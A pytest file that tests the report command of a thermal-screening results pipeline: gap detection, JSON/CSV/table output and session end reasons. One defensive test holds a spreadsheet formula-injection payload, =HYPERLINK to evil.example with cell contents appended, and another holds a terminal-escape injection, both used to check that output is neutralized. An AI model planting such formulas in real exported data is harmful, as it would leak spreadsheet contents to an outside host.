"""`thermoscreen report`: gaps, verdicts, statistics and the three output formats."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from pipeline.cli import main as cli_main
from pipeline.logger.report import format_ranges, seq_gaps
from pipeline.logger.store import open_store
from tests.helpers.mqtt_logger import make_payload


@pytest.mark.parametrize(
    ("seqs", "expected_count", "gaps"),
    [
        ([0, 1, 2], None, []),
        ([0, 1, 2], 3, []),
        ([0, 2, 3, 7], None, [(1, 1), (4, 6)]),
        ([3, 4], None, [(0, 2)]),
        ([0, 1], 5, [(2, 4)]),
        ([1, 1, 0], None, []),
        ([], 2, [(0, 1)]),
        ([], None, []),
    ],
)
def test_seq_gaps(seqs: list[int], expected_count: int | None, gaps: list[tuple[int, int]]) -> None:
    assert seq_gaps(seqs, expected_count) == gaps


def test_format_ranges() -> None:
    assert format_ranges([(1, 1), (4, 6), (9, 10)]) == "1,4-6,9-10"
    assert format_ranges([]) == ""


def _summary(session: str, frames: int, verdict: str | None) -> dict[str, object]:
    v = None
    if verdict is not None:
        v = {"label": verdict, "score": 0.8, "positive": None, "frames": 3, "window_frames": 3,
             "method": "mean", "threshold": None, "positive_label": None}  # fmt: skip
    return {"session_id": session, "frames": frames, "verdict": v}


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """Two sessions: s1 with a device summary, gaps and duplicates; s2 from results only."""
    path = tmp_path / "results.sqlite"
    store = open_store(path)
    s1 = [
        make_payload(0, "s1", label="healthy", score=0.6),
        make_payload(1, "s1", label="sick", score=0.9),
        make_payload(4, "s1", label="sick", score=0.7),
        make_payload(5, "s1", label="healthy", score=0.5),
    ]
    for p in s1:
        store.add_result(p, 1.0)
    store.add_result(s1[0], 2.0)  # re-delivery
    store.add_result(s1[1], 2.0)
    store.add_session("edge-01", "cam0", "s1", _summary("s1", 8, "sick"), 3.0)
    s2 = [make_payload(i, "s2", device="edge-02", label="healthy", score=0.8) for i in range(3)]
    s2.append(make_payload(3, "s2", device="edge-02", label="sick", score=0.95))
    for p in s2:
        store.add_result(p, 1.0)
    store.commit()
    store.close()
    return path


def _run(db: Path, *args: str) -> int:
    return cli_main(["report", "--db", str(db), *args])


def test_json_report_per_session(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.json"
    assert _run(db, "--format", "json", "--out", str(out)) == 0
    doc = json.loads(out.read_text())
    assert "adjunct to mammography" in doc["disclaimer"]
    by_session = {s["session"]: s for s in doc["sessions"]}
    s1, s2 = by_session["s1"], by_session["s2"]
    assert (s1["device"], s1["frames"], s1["reported_frames"]) == ("edge-01", 4, 8)
    assert (s1["verdict"], s1["verdict_source"]) == ("sick", "session")
    assert s1["labels"] == {"healthy": 2, "sick": 2}
    assert s1["top1_score_mean"] == pytest.approx((0.6 + 0.9 + 0.7 + 0.5) / 4)
    assert (s1["top1_score_min"], s1["top1_score_max"]) == (0.5, 0.9)
    # seq 2-3 never arrived; 6-7 were classified (summary says 8 frames) but are missing too
    assert s1["missing_seq"] == [[2, 3], [6, 7]]
    assert s1["missing_count"] == 4
    assert s1["duplicates"] == 2
    assert s1["first_capture"] == make_payload(0)["capture_ts"]
    assert s1["last_capture"] == make_payload(5)["capture_ts"]
    assert (s2["device"], s2["frames"], s2["verdict"], s2["verdict_source"]) == (
        "edge-02", 4, "healthy", "results",
    )  # fmt: skip
    assert (s2["missing_seq"], s2["duplicates"], s2["reported_frames"]) == ([], 0, None)


def test_csv_report(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(db, "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 2
    s1 = next(r for r in rows if r["session"] == "s1")
    assert s1["missing_seq"] == "2-3,6-7"
    assert s1["labels"] == "healthy=2;sick=2"
    assert (s1["frames"], s1["duplicates"], s1["verdict"]) == ("4", "2", "sick")


def test_table_report_and_device_filter(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(db, "--device", "edge-01") == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split()[:5] == ["device", "session", "frames", "rolling", "verdict"]
    assert "top-1 score mean/min/max" in lines[0] and "P(positive) mean" in lines[0]
    assert len(lines) == 3  # header, one session, footer
    assert lines[1].split()[:6] == ["edge-01", "s1", "4", "sick", "(session)", "healthy=2;sick=2"]
    assert "2-3,6-7" in lines[1]
    assert lines[2].startswith("1 session(s).") and "adjunct to mammography" in lines[2]


def test_missing_database_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(tmp_path / "nope.sqlite") == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [
        f"thermoscreen report: {tmp_path / 'nope.sqlite'}: database not found; pass --db"
    ]


def test_csv_neutralizes_device_supplied_formulas(tmp_path: Path) -> None:
    """A label like =HYPERLINK(...) from a device must reach a spreadsheet as text."""
    path = tmp_path / "r.sqlite"
    store = open_store(path)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for seq, label in enumerate([formula, formula, "@SUM(1)", "+1", "healthy"]):
        store.add_result(make_payload(seq, "s1", label=label), 1.0)
    summary = _summary("s1", 5, "-2+3") | {"end_reason": "eos"}
    store.add_session("edge-01", "cam0", "s1", summary, 2.0)
    store.commit()
    store.close()
    out = tmp_path / "r.csv"
    assert _run(path, "--format", "csv", "--out", str(out)) == 0
    (row,) = list(csv.DictReader(io.StringIO(out.read_text())))
    assert row["verdict"] == "'-2+3"
    assert row["labels"].startswith("'+1=1;")  # the cell's first label is +1
    assert f"{formula}=2" in row["labels"]
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@")), value


def test_table_shows_control_characters_escaped(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    store = open_store(path)
    store.add_result(make_payload(0, "s1", label="sick\x1b[2J\nfake line"), 1.0)
    store.commit()
    store.close()
    out = tmp_path / "r.txt"
    assert _run(path, "--out", str(out)) == 0
    text = out.read_text()
    assert "\x1b" not in text and "sick\\x1b[2J\\nfake" in text
    assert len(text.splitlines()) == 3  # header, the session, footer


def test_a_session_without_summary_is_aborted_once_the_device_moved_on(tmp_path: Path) -> None:
    """A killed run never publishes its summary: the report says aborted (the device went
    offline, or the camera started a later session) or incomplete (it may still be running)."""
    path = tmp_path / "r.sqlite"
    store = open_store(path)
    killed = [make_payload(seq, "killed") for seq in range(3)]
    later = [make_payload(seq + 10, "later") for seq in range(2)]  # captured after "killed"
    other = [make_payload(seq, "running", device="edge-02") for seq in range(2)]
    gone = [make_payload(seq, "gone", device="edge-03") for seq in range(2)]
    for p in killed + later + other + gone:
        store.add_result(p, 1.0)
    store.add_session(
        "edge-01", "cam0", "ended", _summary("ended", 0, None) | {"end_reason": "eos"}, 1.0
    )
    store.set_status("edge-01", "online", 1.0)
    store.set_status("edge-02", "online", 1.0)
    store.set_status("edge-03", "offline", 1.0)
    store.commit()
    store.close()
    out = tmp_path / "r.json"
    assert _run(path, "--format", "json", "--out", str(out)) == 0
    ends = {s["session"]: s["end_reason"] for s in json.loads(out.read_text())["sessions"]}
    assert ends == {
        "killed": "aborted",
        "later": "incomplete",
        "running": "incomplete",
        "gone": "aborted",
        "ended": "eos",
    }
